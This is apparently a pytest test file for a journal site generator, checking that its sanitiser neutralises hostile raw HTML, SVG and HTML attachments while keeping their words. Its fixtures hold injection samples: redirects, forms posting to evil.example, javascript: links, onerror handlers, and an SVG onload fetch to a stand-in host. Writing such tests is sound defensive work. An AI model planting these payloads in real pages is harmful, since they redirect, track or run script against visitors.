"""Raw HTML, SVG and HTML attachments that could take the reader elsewhere, call out or run a program
are neutralised in the site and both exports, keeping every word, and `check` says so
(source/sanitise.py, source/attachments.py)."""

from __future__ import annotations

import base64
import datetime as dt
import json
import random
import subprocess
import xml.etree.ElementTree as ET
from collections.abc import Callable

import pytest
from bs4 import BeautifulSoup
from conftest import MakeJournal, entry
from helpers import page, text, verdict

from journalgen.check import check
from journalgen.config import load_config
from journalgen.lock.cipher import SiteKey
from journalgen.source.attachments import inert_svg
from journalgen.source.html import read_html
from journalgen.source.sanitise import sanitise, sanitised

TODAY = dt.date(2026, 11, 26)
Cli = Callable[..., subprocess.CompletedProcess[str]]


HOSTILE_BODY = """Some words before.

<meta http-equiv="refresh" content="3;url=https://evil.example/">

<base href="https://evil.example/">

<form action="https://evil.example/collect"><p>Type here, please</p><input name="q"></form>

<iframe src="https://evil.example/frame">inside the frame</iframe>

<script>location = "https://evil.example/" // a program</script>

[click me](javascript:alert(1)) and <img src="pic.png" onerror="alert(1)">

<a href="jav&#x61;script:alert(2)" ping="https://evil.example/ping">second link</a>

<p>after everything</p>
"""
HOSTILE_WORDS = ("Some words before.", "Type here, please", "inside the frame", "a program", "click me",
                 "second link", "after everything")  # fmt: skip


def assert_harmless(soup: object) -> None:
    """No element or attribute left that navigates, calls out or runs by itself."""
    body = soup.select_one(".entry-body, main") or soup  # type: ignore[attr-defined]
    assert body.select("meta, base, form, iframe, script, link, object, embed") == []
    for element in body.find_all(True):
        for name, value in element.attrs.items():
            assert not name.startswith("on"), element
            assert name not in ("ping", "action", "formaction", "srcdoc", "http-equiv"), element
            assert "script:" not in str(value).replace("\t", "").lower(), element


def test_raw_html_that_navigates_is_neutralised_in_the_site(make_journal: MakeJournal) -> None:
    root = make_journal({"x.md": entry("date: 2026-11-20\ntitle: T", HOSTILE_BODY)})
    assert verdict(root) == []
    soup = page(root / "site/entries/x.html")
    assert_harmless(soup.select_one(".entry-body"))
    shown = text(soup.select_one(".entry-body"))
    for words in HOSTILE_WORDS:
        assert words in shown
    # The page's own head is as it was: its one meta refresh-free policy, no base.
    assert soup.select("head base, meta[http-equiv=refresh]") == []


def test_check_warns_about_each_neutralised_thing_on_its_line(make_journal: MakeJournal) -> None:
    root = make_journal({"x.md": entry("date: 2026-11-20\ntitle: T", HOSTILE_BODY)})
    warnings = [
        str(p) for p in check(load_config(root), TODAY).warnings if "the site and exports" in p.message
    ]
    lines = {
        (w.split(":")[1], w.split(": warning: ")[1].split(" could")[0].split(" of <")[0]) for w in warnings
    }
    assert lines == {
        ("7", "the HTML element <meta>"),
        ("9", "the HTML element <base>"),
        ("11", "the HTML element <form>"),
        ("13", "the HTML element <iframe>"),
        ("15", "the HTML element <script>"),
        ("17", "the attribute href="),
        ("17", "the attribute onerror="),
        ("19", "the attribute href="),
        ("19", "the attribute ping="),
    }


def test_raw_html_that_navigates_is_neutralised_in_both_exports(make_journal: MakeJournal, cli: Cli) -> None:
    root = make_journal({"2026-11-20-x.md": entry("title: T", HOSTILE_BODY)})
    done = cli("export", "--root", root, "--from", "2026-11-01", "-o", root.parent / "out.html")
    assert done.returncode == 0, done.stderr
    soup = BeautifulSoup((root.parent / "out.html").read_bytes(), "html5lib")
    assert_harmless(soup.select_one("main"))
    assert all(words in text(soup.select_one("main")) for words in HOSTILE_WORDS)

    locked = root.parent / "locked.html"
    done = cli("export", "--root", root, "--from", "2026-11-01", "-o", locked, "--encrypt",
               env={"JOURNALGEN_PASSWORD": "a quiet harbour at seven"})  # fmt: skip
    assert done.returncode == 0, done.stderr
    data = json.loads(BeautifulSoup(locked.read_bytes(), "html5lib").select_one("#jg-data").string)
    key = SiteKey.derive("a quiet harbour at seven", bytes.fromhex(data["salt"]), data["iterations"])
    opened = key.open(data["path"], base64.b64decode(data["blob"]))
    soup = BeautifulSoup(opened, "html5lib")
    assert_harmless(soup.select_one("main"))
    assert all(words in text(soup.select_one("main")) for words in HOSTILE_WORDS)


# --- SVG attachments -------------------------------------------------------------------------

RISKY_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" viewBox="0 0 100 50" '
    "onload=\"fetch('https://evil.example/')\"><script>document.documentElement.setAttribute('data-ran', "
    '\'yes\')</script><rect x="10" y="10" width="80" height="30" fill="teal"/></svg>'
)
PLAIN_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle cx="10" cy="10" r="8"/></svg>'
)


def test_an_svg_that_could_run_is_published_as_an_image_of_itself(make_journal: MakeJournal) -> None:
    root = make_journal(
        {
            "x.md": entry(
                "date: 2026-11-20\ntitle: T", "![drawing](a.svg) [open it](a.svg) ![dot](dot.svg)\n"
            ),
            "a.svg": RISKY_SVG,
            "dot.svg": PLAIN_SVG,
        }
    )
    assert verdict(root) == []
    published = ET.fromstring((root / "site/entries/a.svg").read_bytes())
    assert [child.tag for child in published] == ["{http://www.w3.org/2000/svg}image"]
    assert {k: published.get(k) for k in ("width", "height", "viewBox")} == {
        "width": "200",
        "height": "100",
        "viewBox": "0 0 100 50",
    }
    image = published[0].get("href") or ""
    assert base64.b64decode(image.removeprefix("data:image/svg+xml;base64,")) == RISKY_SVG.encode()
    assert (root / "site/entries/dot.svg").read_bytes() == PLAIN_SVG.encode()
    warnings = [str(p) for p in check(load_config(root), TODAY).warnings]
    assert warnings == [
        "entries/a.svg: warning: this SVG holds more than a drawing (a script, a link or a reference to "
        "another file), which would run or call out when it is opened; the site shows it as an image, so "
        "nothing in it runs"
    ]
    # An edit reaches the site on the next (incremental) build.
    (root / "entries/a.svg").write_text(RISKY_SVG.replace("teal", "plum"), encoding="utf-8")
    assert verdict(root) == []
    again = ET.fromstring((root / "site/entries/a.svg").read_bytes())[0].get("href") or ""
    assert b"plum" in base64.b64decode(again.removeprefix("data:image/svg+xml;base64,"))


@pytest.mark.parametrize(
    "svg",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://evil.example/"><text>x</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/pixel.png"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" style="background: url(https://evil.example/b.png)"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"><use href="&#104;ttps://evil.example/#x"/></svg>',
        '<?xml-stylesheet href="https://evil.example/s.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:x"/></svg>',
        "<svg xmlns='http://www.w3.org/2000/svg' ONLOAD='x()'/>",
        '<!DOCTYPE svg [<!ENTITY e "x">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>',
        '\ufeff<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
        "<svg xmlns='http://www.w3.org/2000/svg'><script>\udcff</script></svg>",
    ],
)
def test_what_could_run_or_call_out_is_never_published_as_a_document(svg: str) -> None:
    data = svg.encode("utf-8", "surrogateescape")
    published = inert_svg(data)
    assert published is not None
    assert b"<script" not in published and b'href="data:image/svg+xml;base64,' in published


@pytest.mark.parametrize(
    "svg",
    [
        PLAIN_SVG,
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="5" height="5"/>'
        '<use xlink:href="#g"/></svg>',
    ],
)
def test_a_plain_drawing_is_copied_as_it_is(svg: str) -> None:
    assert inert_svg(svg.encode()) is None


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        (
            '<p>plain <a href="x.html" title="t">link</a></p>',
            '<p>plain <a href="x.html" title="t">link</a></p>',
        ),
        ("<p>a<meta/http-equiv=refresh content=0;url=https://e.x>b</p>", "<p>ab</p>"),
        ("<template><p>kept</p>", "<template><p>kept</p></template>"),
        ("<style>p { color: teal }", "<style>p { color: teal }</style>"),
        ("<script>let words = 1 < 2", '<pre class="script"><code>let words = 1 &lt; 2</code></pre>'),
        ("<p>1 < 2 & 3</p>", "<p>1 &lt; 2 &amp; 3</p>"),
        ("<![CDATA[ <meta> ]]>", " &lt;meta&gt; "),
        ('<object data="x.svg"><param name="a" value="b">fallback words</object>', "fallback words"),
        (
            '<svg><animate attributeName="fill" to="red"></animate>'
            '<set attributeName="href" to="javascript:x"></set><text>t</text></svg>',
            '<svg><animate attributename="fill" to="red"></animate><text>t</text></svg>',
        ),
        ('<a href=" java\tscript:x" target="_blank">c</a>', '<a target="_blank">c</a>'),
        (
            '<img src="data:image/png;base64,AAAA" alt="kept">',
            '<img src="data:image/png;base64,AAAA" alt="kept">',
        ),
        ('<a href="data:text/html,<b>x</b>">made up</a>', "<a>made up</a>"),
    ],
)
def test_sanitise_keeps_words_and_only_what_is_harmless(html: str, clean: str) -> None:
    assert sanitise(html)[0] == clean


PIECES = [
    "<p>", "</p>", "words ", "&amp; ", "&copy;", "AT&T ", "<em>", "</em>", '<a href="x.html">', "</a>",
    '<a href="javascript:x">', '<img src="p.png" alt="a">', '<img src="data:image/png;base64,AA">',
    "<br />", "<h2>", "</h2>", '<div class="footnote">', "</div>", "<meta http-equiv=refresh>", "<script>",
    "</script>", "<style>", "</style>", "<noembed>", "<template>", "<iframe src=x>", "</iframe>",
    '<p onclick="x">', "<svg>", '<set attributeName="href" to="javascript:x">', "</set>", "<!-- c -->",
    "1 < 2 ", "> ", '<td style="text-align: left">', "<P>", "</P >", "<a href='y.html'>", "<x-y z>",
    '<source srcset="a.png 1x, b.png 2x">', '<span style="background: url(q.png)">', "</span>",
]  # fmt: skip


def test_sanitised_is_sanitise_then_read_html() -> None:
    # HTML made by Markdown alone is read once (html.read_plain), anything else as before.
    rnd = random.Random(7)
    for _ in range(4000):
        html = "".join(rnd.choice(PIECES) for _ in range(rnd.randint(0, 12)))
        clean, found = sanitise(html)
        assert sanitised(html) == (clean, found, read_html(clean)), html


HTML_PAGE = """<!DOCTYPE html><html><head><title>Letter</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>document.title = "ran"</script></head>
<body><p>Words of the clinic's letter &amp; more.</p><img src="pic.png" alt="a picture"></body></html>"""


def test_an_html_attachment_is_shown_in_a_closed_frame(make_journal: MakeJournal) -> None:
    root = make_journal(
        {"x.md": entry("date: 2026-11-20", "[the letter](letter.html)\n"), "letter.html": HTML_PAGE}
    )
    assert verdict(root) == []
    soup = page(root / "site/entries/letter.html")
    assert soup.select("meta[http-equiv=refresh], script") == []
    policy = soup.select_one("meta[http-equiv=Content-Security-Policy]")["content"]
    assert "default-src 'none'" in policy and "frame-src 'none'" in policy and "script-src" not in policy
    frame = soup.select_one("iframe")
    assert frame["sandbox"] in (["allow-same-origin"], "allow-same-origin")
    assert frame["srcdoc"] == HTML_PAGE
    assert [str(p) for p in check(load_config(root), TODAY).warnings] == [
        "entries/letter.html: warning: a page opened from the site runs its scripts and follows its "
        "refreshes and links; the site shows this one in a closed frame, where its words and pictures "
        "show and nothing runs or calls out (a PDF or a picture keeps it as it is)"
    ]
